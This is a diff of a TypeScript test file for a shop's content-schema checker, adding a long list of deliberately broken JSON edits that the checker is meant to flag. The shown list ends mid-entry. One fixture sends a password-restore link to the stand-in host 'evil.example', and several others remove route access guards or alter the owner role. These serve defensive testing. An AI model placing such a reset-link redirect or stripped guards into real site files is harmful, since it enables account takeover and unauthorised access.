@@ -1,765 +1,977 @@
 import { expect, test } from 'vitest'
 import { checkFiles } from '#schema/definitions/checker/check.ts'
+import { ruleMetas } from '#schema/definitions/checker/documentation.ts'
 import type { Problem } from '#schema/definitions/document/problem.ts'
 import { indexFiles } from '#schema/definitions/kinds/files.ts'
 import { readTexts, schemaTexts } from '#schema/definitions/kinds/texts.ts'
 import type { KnownCatalog } from '#schema/definitions/scope/context.ts'
 import { kinds } from '#schema/definitions/shop/kinds.ts'
+import { shopLanguage } from '#schema/definitions/shop/language.ts'
 import { checkInput } from '#server/app/check-schema.ts'
 import { publicFolder, schemaFolder } from '#server/engine/paths.ts'
 
-// Mistakes of a content manager in the files of the shop, each told on its line.
+/*
+ * The mistakes of content managers in the files of the shop: a file and the code of the problem, what is replaced and by
+ * what. The mark says on which line the problem is. Another file after the code is where the problem is, on any line.
+ * «верно» is no mistake.
+ */
+const MISTAKES = String.raw`
+mails/password-restore.json письма/чужой-адрес
+- { "$get": "params.link" }
++ ▸{ "$text": "https://evil.example/?u={params.link}" }
+desk/roles.json рабочее-место/владелец
+- "roles": [
+-     {
+-       "id": "owner"
++ ▸"roles": [
++     {
++       "id": "boss"
+desk/roles.json рабочее-место/владелец
+- "roles": [
+-     {
+-       "id": "owner",
+-       "title": "Владелец",
+-       "rights": [
++ ▸"roles": [
++     {
++       "id": "other",
++       "title": "Другая",
++       "rights": []
++     },
++     {
++       "id": "owner",
++       "title": "Владелец",
++       "rights": []
++     },
++     {
++       "id": "third",
++       "title": "Третья",
++       "rights": [
+routes.json адреса/нет-проверки
+- { "path": "/personal/documents", "page": "personal-documents", "guard": "personal" }
++ ▸{ "path": "/personal/documents", "page": "personal-documents" }
+content/faq.json синтаксис/нет-скобки
+-
+-         },
+-         {
++ ▸
++         {
+pages/contacts.json синтаксис/нет-скобки
+-
+-   ]
+- }
++ ▸
++ }
+content/articles/pet-pnd-pp.json синтаксис/нет-скобки
+- "body": [
++ ▸"body":
+content/tags.json синтаксис/нет-скобки
+- "Материалы" },
++ ▸"Материалы" ],
+pages/contacts.json синтаксис/нет-скобки
+-
+-   ]
+- }
++
++ ▸  }
++ }
+content/tags.json синтаксис/нет-скобки
+- "Материалы" },
++ ▸"Материалы",
+content/news/banki-89.json синтаксис/нет-запятой
+- "date": "2026-03-19",
+-
++ ▸"date": "2026-03-19"
++
+content/regions.json синтаксис/число
+- "freeFrom": 10000000
++ ▸"freeFrom": 100 000
+content/settings.json синтаксис/число
+- "lon": 37.6082 }
++ ▸"lon": 37,6082 }
+content/offer.json синтаксис/число
+- "validityDays": 14
++ ▸"validityDays": 14 дней
+pages/home.json синтаксис/лишнее
+- { "route": "news" } } },
++ ▸{ "route": "news" } } } },
+content/faq.json синтаксис/нет-скобки
+- "questions": [
+-         {
++ ▸"questions": [
++
+modals/callback.json синтаксис/кавычка
+- "title"
++ ▸'title'
+content/main.json синтаксис/лишнее
+- {
+-
++ {
++ ▸<<<<<<< HEAD
++
+content/about.json синтаксис/нет-запятой
+- ",
+-
++ ▸";
++
+routes.json синтаксис/нет-двоеточия
+- ":
++ ▸" =
+site.json синтаксис/лишний-знак
+- "renderings": true
++ ▸"renderings": True
+content/certificates.json синтаксис/нет-ключа
+- "issuer"
++ ▸issuer
+content/seo.json синтаксис/кавычка
+- "title": "Плас
++ ▸"title": “Плас
+modals/callback.json синтаксис/кавычка
+- "Задать вопрос"
++ ▸‘Задать вопрос’
+content/about.json синтаксис/кавычка
+- тары «Ёмкость»
++ ▸тары "Ёмкость"
+forms/callback.json синтаксис/кавычка
+- "alias": "Имя",
++ ▸"alias": "Имя,
+content/about.json синтаксис/пусто
+- …
++ ▸
+content/offer.json синтаксис/комментарий
+- "validityDays": 14,
++ ▸"validityDays": 14, // две недели
+content/main.json синтаксис/повтор-ключа
+- "text": "Банки
++ ▸"title": "Тара",
++   "text": "Банки
+content/calendar.json вид/не-тот-вид
+- "06-12"
++ ▸"06-31"
+content/order-statuses.json записи/состояние
+- "next": ["confirmed", "cancelled"] },
+-     "confirmed": {
++ "next": ["cancelled"] },
++ ▸    "confirmed": {
+content/order-statuses.json записи/состояние
+- "shipped": {
+-       "name": "отгружен",
+-       "tone": "active",
+-       "next": ["done"],
++ ▸"shipped": {
++       "name": "отгружен",
++       "tone": "active",
+content/faq.json тексты/заготовка
+- "question": "
++ ▸"question": "TODO 
+content/order-statuses.json записи/повтор
+- "отгружен"
++ ▸"в производстве"
+content/calendar.json записи/календарь
+- "daysOff": [
++ "workingDays": [
++ ▸"02-20"], "daysOff": [
+content/calendar.json записи/календарь
+- "02-23"
++ ▸"02-21"
+content/certificates.json записи/сроки
+- "issued": "2025-10-14",
+-       "validUntil": "2028-10-13"
++ ▸"issued": "2052-10-14"
+content/landings/tara-dlya-kosmetiki.json записи/повтор
+- "title": "Тара для косметики"
++ ▸"title": "Тара для автохимии и технических жидкостей"
+content/settings.json записи/повтор
+- "days": "Пт"
++ ▸"days": "Чт, Пт"
+content/settings.json вид/не-тот-вид
+- "days": "Пт"
++ ▸"days": "Пятница"
+content/settings.json вид/не-тот-вид
+- "days": "Пт", "time": "09:00–17:00"
++ ▸"days": "09:00–17:00", "time": "Пт"
+content/settings.json вид/не-тот-вид
+- "time": "09:00–17:00"
++ ▸"time": "с 9 до 18"
+content/settings.json вид/не-тот-вид
+- "time": "09:00–17:00"
++ ▸"time": "09:00"
+content/settings.json вид/не-тот-вид
+- "Пн–Чт"
++ ▸"Пн-Чтв"
+content/seo.json ссылки/нет-адреса
+- "path": "/"
++ ▸"path": "/o-nas/"
+modals/profile-edit.json форма/нет-значения
+- "values": {
+-           "name": { "$get": "data.profile.user.name", "default": "" },
+-
++ ▸"values": {
++
+content/certificates.json вид/неизвестный-ключ
+- "issuer"
++ ▸"isuer"
+content/news/banki-89.json вид/нет-ключа
+- ,
+-   "date": "2026-03-19"
++ ▸
+content/news/banki-89.json вид/не-тот-вид
+- "height": 84,
++ ▸"height": "84 мм",
+content/main.json вид/границы
+- "height": 62,
++ ▸"height": 62000,
+site.json вид/не-тот-вид
+- "renderings": true
++ ▸"renderings": "да"
+content/faq.json вид/длина
+- "question": "Какой минимальный заказ?"
++ ▸"question": ""
+content/faq.json вид/длина
+- "question": "Какой минимальный заказ?"
++ ▸"question": "   "
+content/certificates.json вид/не-то-значение
+- "kind": "system"
++ ▸"kind": "sistem"
+content/articles/pet-pnd-pp.json вид/неизвестный-блок
+- "type": "lead"
++ ▸"type": "leed"
+pages/contacts.json вид/неизвестный-ключ
+- "mapTitle": "Где мы"
+-       }
++ "x": 1
++  },
++ ▸"mapTitle": "Где мы"
+content/articles/pet-pnd-pp.json вид/не-тот-вид
+- "2025-10-09"
++ ▸"09.10.2025"
+content/requisites.json вид/не-тот-вид
+- "2026-01-01"
++ ▸"2026-02-30"
+content/news/banki-89.json вид/не-тот-вид
+- "2026-03-19"
++ ▸"2206-03-19"
+content/settings.json вид/не-тот-вид
+- "3300000007"
++ ▸"3300000070"
+content/settings.json вид/не-тот-вид
+- "1023300000008"
++ ▸"1023300000080"
+content/requisites.json записи/счёт
+- "40702810300000001148"
++ ▸"40702810300000001184"
+content/settings.json вид/не-тот-вид
+- "time": "09:00–18:00"
++ ▸"time": "25:00–18:00"
+content/settings.json вид/не-тот-вид
+- "time": "09:00–17:00"
++ ▸"time": "17:00–09:00"
+content/settings.json вид/не-тот-вид
+- "phone": "+7 4922 00-00-05"
++ ▸"phone": "+7 4922 00-00-0"
+content/settings.json вид/не-тот-вид
+- "phone": "+7 4922 00-00-05"
++ ▸"phone": "+8 492 200-00-05"
+content/settings.json вид/не-тот-вид
+- "vladimir@zavod
++ ▸"vladimir.zavod
+site.json вид/не-тот-вид
+- emkost.example"
++ emkost.example/"▸
+content/settings.json вид/границы
+- "lat": 55.7936, "lon": 37.6082
++ ▸"lat": 37.6082, "lon": 55.7936
+content/regions.json вид/не-тот-вид
+- "freeFrom": 10000000
++ ▸"freeFrom": "100 000 ₽"
+content/regions.json записи/рубли
+- "freeFrom": 10000000
++ ▸"freeFrom": 100000
+content/delivery.json записи/рубли
+- "perPallet": 350000
++ ▸"perPallet": 3500
+content/regions.json записи/рубли
+- "freeFrom": 10000000
++ ▸"freeFrom": 1000000000
+content/news/prays-2026.json записи/сроки
+- "date": "2026-02-05"
++ ▸"date": "2036-02-02"
+site.json записи/рубли
+- "upTo": 30000000
++ ▸"upTo": 300000
+content/delivery.json вид/границы
+- "least": 90000
++ ▸"least": -90000
+content/delivery.json записи/сроки
+- "daysFrom": 1,
+-         "daysTo": 2
++ "daysFrom": 2,
++ ▸        "daysTo": 1
+content/certificates.json записи/сроки
+- "validUntil": "2028-10-13"
++ ▸"validUntil": "2018-10-13"
+content/certificates.json записи/сроки
+- "issued": "2025-10-14",
+-       "validUntil": "2028-10-13"
++ "issued": "2015-10-14",
++ ▸      "validUntil": "2018-10-13"
+content/main.json записи/сроки
+- "text": "Как читать чертёж и допуски",
++ "text": "Как читать", "from": "2026-12-02",
++ ▸"until": "2026-12-01",
+content/requisites.json записи/сроки
+- "from": "2026-01-01"
++ ▸"from": "2018-01-01"
+content/articles/pet-pnd-pp.json ссылки/нет-записи
+- ["materialy"]
++ ▸["materialyy"]
+content/regions.json ссылки/нет-записи
+- "office": "moscow"
++ ▸"office": "moskva"
+forms/callback.json ссылки/нет-окна
+- "modal": "success"
++ ▸"modal": "sucess"
+modals/callback.json ссылки/нет-формы
+- "form": "callback"
++ ▸"form": "callbak"
+forms/callback.json ссылки/нет-письма
+- "mail": "new-submission"
++ ▸"mail": "new-submision"
+pages/contacts.json ссылки/нет-фрагмента
+- "name": "region-delivery"
++ ▸"name": "region-dostavka"
+routes.json ссылки/нет-страницы
+- "page": "faq"
++ ▸"page": "fak"
+pages/articles.json ссылки/неизвестный-вызов
+- "library.list"
++ ▸"library.lst"
+pages/articles.json данные/не-нужны
+- "library": {
++ ▸"libary": {
+pages/catalog.json данные/не-нужны
+- "heightFrom":
++ ▸"hieghtFrom":
+pages/home.json данные/нет-пути
+- "data.main.banners"
++ ▸"data.main.baners"
+modals/profile-edit.json ссылки/лишний-параметр
+- "values": {
++ "values": {
++ ▸"emial": "a@zavod.example",
+content/main.json ссылки/нет-в-каталоге
+- "БН-350-70-ПС-ПР"
++ ▸"БН-350-70-ПС-ПЛ"
+content/main.json ссылки/нет-в-каталоге
+- "link": "/catalog/flakony/"
++ ▸"link": "/catalog/flakonyy/"
+desk/roles.json рабочее-место/право
+- "desk.ordersExport"
++ ▸"desk.orderExport"
+pages/articles.json ссылки/адрес
+- (/articles/)
++ ▸(/articles)
+content/main.json ссылки/нет-адреса
+- "link": "/catalog/banki/"
++ ▸"link": "/katalog/"
+content/main.json ссылки/нет-материала
+- "slug": "chertezh-i-dopuski"
++ ▸"slug": "chertezh"
+content/settings.json ссылки/нет-места
+- "anchor": "laboratory"
++ ▸"anchor": "laboratoriya"
+content/main.json ссылки/нет-файла
+- catalog_necks.pdf
++ ▸catalog_neck.pdf
+content/settings.json вид/нет-ключа
+- { "name": "Импорт", "link": "/catalog-import/" }
++ ▸{ "name": "Импорт" }
+content/faq.json ссылки/почта
+- [info@zavod-emkost.example](mailto:info@
++ ▸[info@zavod-emkost.example](mailto:inf@
+content/faq.json ссылки/телефон
+- "answer": "Одна коробка
++ ▸"answer": "[+7 4922 00-00-05](tel:+74922000006): одна коробка
+content/landings/tara-dlya-kosmetiki.json ссылки/телефон
+- "text": "Позвонить технологу"
++ ▸"text": "+7 495 000-00-09"
+content/about.json ссылки/почта
+- "text": "Написать на завод"
++ ▸"text": "inf@zavod-emkost.example"
+content/seo.json картинки/нет-файла
+- "path": "/",
++ ▸"path": "/", "picture": "/assets/pictures/net.jpg",
+pages/contacts.json записи/скобки
+- "mapTitle": "Где мы"
++ ▸"mapTitle": "Где мы в {region.name}"
+content/faq.json записи/скобки
+- "answer": "Одна коробка
++ ▸"answer": "{site.name}: одна коробка
+pages/contacts.json данные/не-та-запись
+- "mapTitle": "Где мы"
++ ▸"mapTitle": { "$text": "Где мы {region.name" }
+pages/home.json данные/не-та-запись
+- "blocks": [
++ "blocks": [
++ ▸{ "type": "text", "props": { "text": { "$text": "{{region.name}}" } } },
+content/requisites.json записи/скобки
+- "notice": "Счёт действителен до {until}
++ ▸"notice": "Счёт действителен до {untill}
+content/offer.json тексты/набор
+- "label": "Оснастка"
++ ▸"label": "Оснaстка"
+content/faq.json тексты/разметка
+- "answer": "Одна коробка
++ ▸"answer": "**Одна коробка
+content/faq.json тексты/разметка
+- в [контактах](/contacts/)
++ ▸в [контактах] (/contacts/)
+content/faq.json тексты/разметка
+- (/articles/pet-pnd-pp/)
++ ▸(/articles/pet-pnd-pp/
+content/faq.json тексты/разметка
+- "answer": "Одна коробка
++ ▸"answer": "<b>Одна</b> коробка
+content/faq.json тексты/разметка
+- "answer": "Одна коробка
++ ▸"answer": "# Одна коробка
+content/faq.json тексты/разметка
+- "answer": "Одна коробка
++ ▸"answer": "*Одна* коробка
+content/faq.json тексты/разметка
+- "answer": "Одна коробка
++ ▸"answer": "__Одна__ коробка
+content/faq.json тексты/разметка
+- "answer": "Одна коробка
++ ▸"answer": "(Одна)[/about/] коробка
+content/faq.json тексты/разметка
+- "answer": "Одна коробка
++ ▸"answer": "![Одна](/about/) коробка
+content/tags.json тексты/набор
+- "Заказ и цена"
++ ▸"Заказ - и цена"
+content/landings/tara-dlya-kosmetiki.json записи/ячейки
+- , "24/410", "Дозатор 1,2 мл"]
++ , "24/410"]▸
+content/documents/catalog-necks.json записи/ячейки
+- ["18/400", "1",
++ ▸["18/400", "1", "1",
+content/faq.json записи/повтор
+- "questions": [
++ "questions": [{ "question": "А?", "answer": "Б." },
++ ▸{ "question": "А?", "answer": "В." },
+content/tags.json записи/повтор
+- "number": 2,
++ ▸"number": 1,
+content/delivery.json вид/не-тот-вид
+- "daysTo": 2
++ ▸"daysTo": 2.5
+content/requisites.json вид/не-тот-вид
+- "rate": 22
++ ▸"rate": 0.22
+content/certificates.json вид/не-тот-вид
+- "validUntil": "2028-10-13"
++ ▸"validUntil": "2128-10-13"
+content/main.json вид/не-тот-вид
+- "text": "Как читать чертёж и допуски",
++ ▸"text": "Как читать", "until": "2126-12-01 10:00",
+site.json синтаксис/лишний-знак
+- "renderings": true
++ ▸"renderings": ture
+pages/contacts.json вид/не-тот-вид
+- "mapTitle": "Где мы"
+-       }
++ "mapTitle": "Где мы" },
++ ▸"visible": "region.freeFrom"
+forms/callback.json вид/не-тот-вид
+- "required": true, "maxLength": 3000
++ ▸"required": "form.phone", "maxLength": 3000
+forms/offer-request.json данные/не-тот-вид
+- "to": { "route": "offer" }
++ ▸"to": { "$if": [{ "$get": "region.phone" }, "/faq/", { "route": "offer" }] }
+pages/contacts.json данные/никогда-не-верно
+- "mapTitle": "Где мы"
+-       }
++ "mapTitle": "Где мы" },
++ ▸"visible": { "$not": [{ "$get": "user.signedIn" }] }
+forms/callback.json данные/никогда-не-верно
+- "rows": 5,
++ ▸"visible": { "$empty": [{ "$get": "region.phone" }] },
+forms/questionnaire.json данные/никогда-не-верно
+- "validation": { "required": true }
++ ▸"validation": { "required": { "$not": [{ "$eq": [{ "$get": "form.kinds" }, "x"] }] } }
+forms/callback.json форма/нет-согласия
+- {
+-       "name": "agree",
+-       "type": "checkbox",
+-       "label": "Даю [согласие на обработку персональных данных](settings:consent)",
+-       "consent": "data-consent",
++ ▸{
++       "name": "agree",
++       "type": "checkbox",
++       "label": "Даю [согласие на обработку персональных данных](settings:consent)",
++
+pages/checkout.json ссылки/лишний-параметр
+- "workCompany country inn
++ ▸"workCompany countri inn
+pages/checkout.json ссылки/не-то-значение
+- "country": { "$get": "data.buyer.buyer.country" }
++ ▸"country": "rus"
+forms/callback.json записи/повтор
+- "name": "message"
++ ▸"name": "phone"
+forms/callback.json форма/согласие-заранее
+- "consent": "data-consent",
++ "consent": "data-consent",
++ ▸"default": true,
+pages/samples.json форма/согласие-заранее
+- "form": "sample"
++ "form": "sample", "values": {
++ ▸"agree": true }
+forms/callback.json форма/нет-согласия
+- "consent": "data-consent",
++ "consent": "data-consent",
++ ▸"visible": { "$get": "form.email" },
+pages/samples.json форма/поле
+- "form": "sample"
++ "form": "sample", "values": {
++ ▸"email": "нет" }
+forms/callback.json форма/не-отправится
+- "name": "message",
++ "name": "message",
++ ▸"send": false,
+forms/callback.json форма/без-ответа
+- "onSuccess": [{ "do": "resetForm" }, { "do": "openModal", "modal": "success" }]
++ ▸"onSuccess": [{ "do": "resetForm" }]
+forms/subscribe.json форма/не-отправится
+- "fields": [
++ "fields": [{ "name": "files", "label": "Файлы",
++ ▸"type": "file", "validation": { "file": { "kinds": ["pdf"] } } },
+forms/questionnaire.json форма/письмо-никому
+- "mails": [{ "mail": "new-submission" },
++ ▸"mails": [
+forms/callback.json форма/письмо-никому
+- { "$get": "form.email" }
++ ▸{ "$get": "form.name" }
+catalog/properties.json записи/свойство
+- "properties": [
++ "properties": [{ "name": "note", "title": "Заметка", "kind": "text",
++ ▸"filter": true },
+content/tags.json синтаксис/нет-значения
+- "title": "Материалы"
++ ▸"title":
+content/offer.json синтаксис/знак
+- "label": "Оснастка"
++ ▸"label": "Осна\стка"
+content/offer.json синтаксис/ошибка
+- "label": "Оснастка"
++ ▸"label": "Осна\u12тка"
+content/about.json синтаксис/запрещённый-ключ
+- "title": "О заводе"
++ ▸"constructor": "О заводе"
+pages/contacts.json вид/имя-ключа
+- "data": { "offices"
++ ▸"data": { "Offices"
+pages/articles.json вид/лишний-ключ
+- "items": { "$get": "data.library.tags" }
++ ▸"items": { "$get": "data.library.tags", "$not": true }
+modals/success.json вид/чужая-схема
+- modal.schema.json
++ ▸page.schema.json
+pages/article.json вид/пусто
+- "link": { "route": "articles" } },
++ ▸"link": {} },
+routes.json адреса/повтор
+- { "path": "/faq", "page": "faq" },
++ { "path": "/faq", "page": "faq" },
++ ▸{ "path": "/faq", "page": "contacts" },
+routes.json адреса/повтор
+- { "path": "/faq", "page": "faq" },
++ { "path": "/faq", "page": "faq" },
++ ▸{ "path": "/voprosy", "page": "faq" },
+routes.json адреса/занят
+- { "path": "/faq", "page": "faq" }
++ ▸{ "path": "/api/faq", "page": "faq" }
+content/regions.json адреса/занят
+- "code": "moscow"
++ ▸"code": "news"
+routes.json адреса/занят
+- "redirects": [
++ "redirects": [
++ ▸{ "from": "/news", "to": "/articles/" },
+routes.json адреса/занят
+- "redirects": [
++ "redirects": [
++ ▸{ "from": "/articles/pet-pnd-pp", "to": "/articles/" },
+routes.json адреса/повтор
+- "redirects": [
++ "redirects": [
++ { "from": "/old", "to": "/articles/" },
++ ▸{ "from": "/old", "to": "/news/" },
+routes.json адреса/цепочка
+- "redirects": [
++ "redirects": [
++ { "from": "/old", "to": "/articles/" },
++ ▸{ "from": "/older", "to": "/old/" },
+routes.json адреса/часть
+- "redirects": [
++ "redirects": [
++ ▸{ "from": "/old/{slug}", "to": "/articles/{name}/" },
+routes.json адреса/часть
+- "redirects": [
++ "redirects": [
++ ▸{ "from": "/old/{slug}", "to": "/artcles/{slug}/" },
+routes.json ссылки/нет-адреса
+- "redirects": [
++ "redirects": [
++ ▸{ "from": "/old", "to": "/artcles/" },
+routes.json адреса/нет-адреса pages/watched.json
+- { "path": "/watched", "page": "watched" },
++
+routes.json ссылки/неизвестная-проверка
+- "page": "personal", "guard": "personal"
++ ▸"page": "personal", "guard": "personl"
+desk/pages/customers.json ссылки/нет-макета
+- "layout": "desk/desk"
++ ▸"layout": "desk/dsk"
+layouts/default.json макеты/место-страницы
+- { "type": "outlet" }
++ { "type": "outlet" },
++ ▸{ "type": "outlet" }
+pages/contacts.json макеты/место-страницы
+- "blocks": [
++ "blocks": [
++ ▸{ "type": "outlet" },
+mails/password-restore.json макеты/не-место
+- "blocks": [
++ "blocks": [
++ ▸{ "type": "form", "props": { "form": "callback" } },
+pages/contacts.json фрагменты/имя
+- "name": "region-delivery"
++ ▸"name": { "$get": "route.path" }
+partials/breadcrumbs.json фрагменты/круг
+- "blocks": [
++ ▸"blocks": [{ "type": "partial", "props": { "name": "breadcrumbs", "params": { "title": "А" } } },
+pages/contacts.json ссылки/нет-параметра
+- "name": "breadcrumbs", "params": { "title": "Контакты" }
++ ▸"name": "breadcrumbs"
+pages/contacts.json ссылки/лишний-параметр
+- "name": "breadcrumbs", "params": { "title": "Контакты" }
++ ▸"name": "breadcrumbs", "params": { "title": "Контакты", "text": "А" }
+pages/contacts.json данные/не-тот-вид
+- "name": "breadcrumbs", "params": { "title": "Контакты" }
++ ▸"name": "breadcrumbs", "params": { "title": 5 }
+forms/questionnaire.json ссылки/лишний-параметр
+- "title": "Спасибо! Анкета принята"
++ ▸"titel": "Спасибо! Анкета принята"
+pages/articles.json ссылки/не-тот-вызов
+- "source": "library.list"
++ ▸"source": "form.feedback"
+pages/samples.json ссылки/данные-посетителя
+- "own": true,
+-   "query": { "full": { "type": "integer" } },
+-   "data"
++ "query": { "full": { "type": "integer" } },
++ ▸"data"
+modals/profile-edit.json ссылки/данные-посетителя
+- "own": true,
+-   "data"
++ ▸"data"
+pages/article.json ссылки/нет-параметра
+- "source": "library.view", "params": { "code": { "$get": "route.slug" } }
++ ▸"source": "library.view"
+pages/home.json данные/не-тот-вид
+- "params": { "kind": "main", "region"
++ ▸"params": { "kind": "mian", "region"
+pages/samples.json данные/не-нужны
+- "data": { "samples"
++ ▸"data": { "faq": { "source": "faqs.list" }, "samples"
+pages/contacts.json данные/нет-корня
+- "data.offices.list"
++ ▸"date.offices.list"
+modals/success.json данные/может-быть-пусто
+- "$get": "params.title", "default": "Спасибо! Ваш запрос принят"
++ ▸"$get": "params.title"
+pages/contacts.json данные/никогда-не-верно
+- "mapTitle": "Где мы"
+-       }
++ "mapTitle": "Где мы" },
++ ▸"visible": { "$eq": [{ "$get": "region.code" }, "moskva"] }
+pages/samples.json данные/никогда-не-верно
+- "visible": { "$get": "query.full" }
++ ▸"visible": { "$eq": [{ "$get": "query.full" }, "1"] }
+pages/samples.json данные/никогда-не-верно
+- "visible": { "$get": "query.full" }
++ ▸"visible": { "$gt": [{ "$get": "route.path" }, 5] }
+pages/samples.json данные/никогда-не-верно
+- "visible": { "$get": "query.full" }
++ ▸"visible": { "$in": [["ru"], { "$get": "region.code" }] }
+pages/samples.json данные/не-тот-вид
+- "visible": { "$get": "query.full" }
++ ▸"visible": { "$get": "region" }
+pages/articles.json данные/не-та-запись
+- { "$text": "{data.library.tag.title}: статьи" }
++ ▸{ "$format": [{ "$get": "data.library.tag.title" }, "date"] }
+forms/callback.json ссылки/нет-документа
+- "consent": "data-consent"
++ ▸"consent": "data-consnt"
+pages/samples.json ссылки/имя
+- "form": "sample"
++ ▸"form": { "$get": "route.path" }
+desk/pages/customers.json ссылки/нет-в-query
+- { "name": "q", "label"
++ ▸{ "name": "qq", "label"
+mails/password-restore.json письма/нет-параметра
+- "params": { "link":
++ ▸"params": { "url": { "type": "link", "description": "А." }, "link":
+mails/submission-received.json письма/слова-посетителя mails/submission-received.json
+- "blocks": [
++ "blocks": [
++ { "type": "text", "props": { "text": { "$text": "С {submission.page}" } } },
+pages/contacts.json доступность/уровни-заголовков
+- { "type": "partial", "props": { "name": "region-delivery" } }
++ ▸{ "type": "page-heading", "props": { "title": "Ещё" } }
+content/about.json записи/повтор
+- "level": 2, "anchor": "products"
++ "level": 2, "anchor": "products" } },
++ ▸{ "type": "heading", "props": { "text": "Ещё", "level": 2, "anchor": "products"
+content/regions.json записи/субъект
+- "RU-MOW"
++ ▸"RU-MSK"
+content/regions.json записи/повтор content/regions.json
+- "RU-MOW"
++ "RU-SPE"
+content/regions.json записи/сумма
+- "freeFrom": 10000000,
+-       "perPallet": 350000,
+-       "delivery"
++ "perPallet": 350000,
++ ▸"delivery"
+content/delivery.json записи/повтор
+- "cities": [
++ "cities": [
++ "Тверь",
++ ▸"Тверь",
+content/documents/data-consent.json записи/повтор content/documents/privacy-policy.json
+- /assets/documents/data_consent.pdf
++ /assets/documents/terms_of_use.pdf
+catalog/properties.json записи/свойство
+- "properties": [
++ "properties": [{ "name": "note", "title": "Заметка",
++ ▸"kind": "number", "values": ["а"] },
+routes.json рабочее-место/проверка
+- "page": "desk/orders", "guard": "staff"
++ ▸"page": "desk/orders"
+routes.json рабочее-место/проверка
+- { "path": "/faq", "page": "faq" }
++ ▸{ "path": "/faq", "page": "faq", "guard": "staff" }
+routes.json рабочее-место/адрес
+- "path": "/desk/orders/add"
++ ▸"path": "/orders/add"
+pages/contacts.json рабочее-место/макет
+- "name": "Контакты"
++ ▸"name": "Контакты", "layout": "desk/desk"
+pages/contacts.json рабочее-место/вызов
+- "source": "office.list"
++ ▸"source": "desk.customers"
+forms/callback.json рабочее-место/вызов
+- "call": "form.feedback"
++ ▸"call": "desk.signIn"
+pages/samples.json рабочее-место/форма
+- "form": "sample"
++ ▸"form": "desk/sign-in"
+pages/contacts.json рабочее-место/блок
+- { "type": "partial", "props": { "name": "region-delivery" } }
++ ▸{ "type": "desk-plot", "props": { "title": "А", "points": [] } }
+desk/pages/customers.json рабочее-место/столбец
+- "value": "who"
++ ▸"value": "whoo"
+pages/article.json ссылки/одна-цель
+- "link": { "route": "articles" } },
++ ▸"link": { "route": "articles", "href": "/faq/" } },
+pages/article.json ссылки/нет-страницы
+- "link": { "route": "articles" } },
++ ▸"link": { "route": "artcles" } },
+pages/article.json ссылки/нет-параметра
+- "link": { "route": "articles" } },
++ ▸"link": { "route": "article" } },
+pages/article.json ссылки/лишний-параметр
+- "link": { "route": "articles" } },
++ ▸"link": { "route": "articles", "query": { "tga": "x" } } },
+pages/article.json ссылки/не-то-значение
+- "link": { "route": "articles" } },
++ ▸"link": { "route": "articles", "query": { "tag": "net" } } },
+pages/faq.json ссылки/не-показано content/about.json
+- "name": "Вопросы и ответы"
++ "unpublished": true, "name": "Вопросы и ответы"
+forms/callback.json ссылки/нет-настройки
+- (settings:politic)
++ ▸(settings:politik)
+content/faq.json ссылки/адрес
+- "answer": "Одна коробка
++ ▸"answer": "[а](https://localhost:3000/faq/) коробка
+content/faq.json ссылки/адрес
+- "answer": "Одна коробка
++ ▸"answer": "[а](https://zavod-emkost.example/faq/) коробка
+content/faq.json ссылки/телефон
+- "answer": "Одна коробка
++ ▸"answer": "[а](tel:+749220000) коробка
+content/faq.json ссылки/почта
+- "answer": "Одна коробка
++ ▸"answer": "[а](mailto:info.zavod.ru) коробка
+content/faq.json ссылки/не-то-значение
+- "answer": "Одна коробка
++ ▸"answer": "[а](/catalog/?page=x) коробка
+content/faq.json ссылки/нет-окна
+- "answer": "Одна коробка
++ ▸"answer": "[а](modal:calback) коробка
+content/articles/pet-pnd-pp.json картинки/описание
+- "Три флакона 250 мл одной формы в ряд: прозрачный, молочный и белый"
++ ▸"IMG_0012.jpg"
+content/articles/pet-pnd-pp.json картинки/не-картинка
+- "/assets/pictures/pet-pnd-pp.jpg"
++ ▸"/assets/documents/data_consent.pdf"
+forms/callback.json форма/неизвестный-вызов
+- "form.feedback"
++ ▸"form.fedback"
+forms/callback.json форма/не-тот-вызов
+- "form.feedback"
++ ▸"library.list"
+forms/subscribe.json форма/лишнее-поле
+- "fields": [
++ "fields": [
++ ▸{ "name": "site", "label": "Сайт" },
+forms/subscribe.json форма/не-тот-вид
+- "name": "email",
+-       "type": "email",
++ ▸"name": "email",
++ "type": "checkboxes", "options": [{ "value": "a", "text": "А" }],
+forms/subscribe.json форма/нет-поля
+- "fields": [
+-     {
+-       "name": "email",
++ ▸"fields": [
++ {
++ "visible": { "$get": "form.agreement" }, "name": "email",
+forms/callback.json форма/согласие-без-документа
+- {
+-       "name": "agree",
+-       "type": "checkbox",
+-       "label": "Даю [согласие на обработку персональных данных](settings:consent)",
++ ▸{
++ "name": "agree", "type": "checkbox", "label": "Даю согласие",
+forms/callback.json форма/нет-политики forms/callback.json
+- [политику конфиденциальности](settings:politic)
++ политику
+forms/subscribe.json форма/шаги
+- "fields": [
++ "steps": [
++ { "title": "А", "fields": ["email"] },
++ ▸{ "title": "Б", "fields": ["agremeent"] }
++ ],
++ "fields": [
+forms/callback.json форма/слова-посетителя
+- "modal": "success"
++ ▸"modal": "success", "params": { "text": { "$get": "form.name" } }
+forms/callback.json форма/письмо-никому
+- "to": { "$get": "form.email" }
++ ▸"to": "manger"
+forms/callback.json форма/без-ответа
+- "draft": true,
++ ▸"onError": [{ "do": "resetForm" }],
+forms/callback.json действия/нет-ключа
+- { "do": "openModal", "modal": "success" }
++ ▸{ "do": "openModal" }
+forms/callback.json действия/лишний-ключ
+- { "do": "resetForm" }
++ ▸{ "do": "resetForm", "modal": "success" }
+forms/questionnaire.json записи/повтор
+- { "value": "ru", "text": "Россия" },
++ { "value": "ru", "text": "Россия" },
++ ▸{ "value": "ru", "text": "Армения" },
+forms/questionnaire.json записи/повтор
+- { "value": "ru", "text": "Россия" },
++ { "value": "ru", "text": "Россия" },
++ ▸{ "value": "am", "text": "Россия" },
+forms/questionnaire.json форма/поле
+- "default": "ru"
++ ▸"default": "am"
+forms/questionnaire.json форма/поле
+- "fill": { "name": "company" }
++ ▸"fill": { "name": "compani" }
+forms/callback.json форма/поле
+- "mask": "+7 999 999-99-99"
++ ▸"mask": "+7"
+forms/callback.json форма/поле
+- "autocomplete": "name"
++ ▸"autocomplete": "naem"
+forms/callback.json форма/поле
+- "hint": "До пяти файлов
++ ▸"mask": "999", "hint": "До пяти файлов
+forms/callback.json форма/поле
+- "required": true, "maxLength": 100
++ ▸"required": true, "min": 100
+forms/callback.json форма/поле
+- "required": true, "maxLength": 100
++ ▸"required": true, "minLength": 200, "maxLength": 100
+forms/callback.json форма/поле
+- "required": true, "maxLength": 100
